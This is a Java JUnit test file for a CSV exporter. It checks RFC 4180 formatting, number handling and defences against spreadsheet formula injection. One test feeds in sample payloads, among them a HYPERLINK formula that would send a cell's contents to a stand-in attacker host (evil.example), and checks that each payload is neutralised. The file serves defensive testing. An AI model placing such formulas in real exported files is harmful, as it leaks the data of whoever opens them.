package org.gridpatrol.web;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/** The CSV writer: RFC 4180 with a byte-order mark, text escaped against formulas, numbers left as numbers. */
class CsvTest {

  private static List<CSVRecord> read(Csv csv) throws IOException {
    String text = csv.toString();
    assertEquals('\uFEFF', text.charAt(0), "starts with the byte-order mark");
    return CSVFormat.RFC4180.parse(new StringReader(text.substring(1))).getRecords();
  }

  @Test
  void theFileIsRfc4180WithAByteOrderMarkAndCrlf() throws IOException {
    Csv csv = new Csv(List.of("name", "count")).text("东华门街道").number(3).row()
        .text("a, \"quoted\"\nline").number(null).row();
    assertEquals("\uFEFFname,count\r\n东华门街道,3\r\n\"a, \"\"quoted\"\"\nline\",\r\n", csv.toString());
    List<CSVRecord> records = read(csv);
    assertEquals(3, records.size());
    assertEquals(List.of("a, \"quoted\"\nline", ""), records.get(2).toList());
  }

  @Test
  void textThatWouldStartAFormulaGetsAQuoteInFront() throws IOException {
    String[] formulas = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)",
        "\tx", "\r=1+1"};
    Csv csv = new Csv(List.of("value"));
    for (String formula : formulas) {
      csv.text(formula).row();
    }
    List<CSVRecord> records = read(csv);
    for (int i = 0; i < formulas.length; i++) {
      assertEquals("'" + formulas[i], records.get(i + 1).get(0), "read back as text: " + formulas[i]);
    }
    assertTrue(csv.toString().contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""),
        "quotes inside doubled, as RFC 4180 asks");
  }

  @Test
  void ordinaryTextIsLeftAlone() {
    for (String text : new String[] {"东华门街道第1社区", "P0001", "2026-12-04T09:00+08:00", "a=b", "x-1", "", " =1"}) {
      assertEquals(text, Csv.escaped(text));
    }
    assertEquals("\uFEFFv\r\n\r\n", new Csv(List.of("v")).text(null).row().toString(), "null is an empty cell");
  }

  @Test
  void numbersStayNumbersEvenWhenNegative() throws IOException {
    Csv csv = new Csv(List.of("lon", "lat", "speed", "tiny", "count", "rate", "exact")).number(-0.12)
        .number(39.9405).number(1.1f).number(0.00001).number(-42L).number(1.0).number(new BigDecimal("1E+3")).row();
    assertEquals(List.of("-0.12", "39.9405", "1.1", "0.00001", "-42", "1.0", "1000"), read(csv).get(1).toList());
    assertThrows(IllegalArgumentException.class, () -> csv.number(Double.NaN));
    assertThrows(IllegalArgumentException.class, () -> csv.number(Float.NEGATIVE_INFINITY));
  }

  @Test
  void aNegativeNumberWrittenAsTextIsEscapedLikeAnyText() throws IOException {
    Csv csv = new Csv(List.of("note")).text("-0.12").row();
    assertEquals("'-0.12", read(csv).get(1).get(0));
  }
}
